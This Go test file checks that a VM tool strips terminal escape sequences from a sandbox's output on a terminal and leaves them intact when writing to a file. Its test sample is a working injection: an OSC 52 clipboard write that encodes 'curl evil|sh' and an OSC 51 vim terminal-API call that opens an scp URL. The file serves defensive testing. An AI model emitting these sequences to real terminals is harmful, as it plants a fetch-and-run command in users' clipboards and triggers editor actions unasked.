package vm

import (
	"bytes"
	"os"
	"testing"

	"github.com/heavy-duty/box/internal/pty"
)

// hostile is what a box prints to reach past the screen: OSC 52 (your clipboard) and
// OSC 51 (vim's terminal API: netrw runs scp), between text that must arrive.
const hostile = "a\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b]51;[\"drop\",\"scp://h/x\"]\x07b\n"

// On a terminal, the box's output passes the filter: the terminal sees the text only.
func TestTerminalOutFiltersATerminal(t *testing.T) {
	master, slave, err := pty.Open()
	if err != nil {
		t.Fatal(err)
	}
	defer master.Close()
	defer slave.Close()
	if _, err := terminalOut(slave).Write([]byte(hostile)); err != nil {
		t.Fatal(err)
	}
	got := make([]byte, 0, 256)
	buf := make([]byte, 256)
	for !bytes.Contains(got, []byte("b")) {
		n, err := master.Read(buf)
		if err != nil {
			t.Fatalf("read the terminal: %v (read %q)", err, got)
		}
		got = append(got, buf[:n]...)
	}
	if bytes.Contains(got, []byte("\x1b]")) || !bytes.HasPrefix(got, []byte("ab")) {
		t.Fatalf("the terminal saw %q: want \"ab\" with no OSC", got)
	}
}

// Off a terminal (box exec's output to a file or a pipe), the bytes pass unchanged.
func TestTerminalOutLeavesAFile(t *testing.T) {
	f, err := os.CreateTemp(t.TempDir(), "out")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if _, err := terminalOut(f).Write([]byte(hostile)); err != nil {
		t.Fatal(err)
	}
	got, err := os.ReadFile(f.Name())
	if err != nil || string(got) != hostile {
		t.Fatalf("the file holds %q (%v), want %q", got, err, hostile)
	}
}
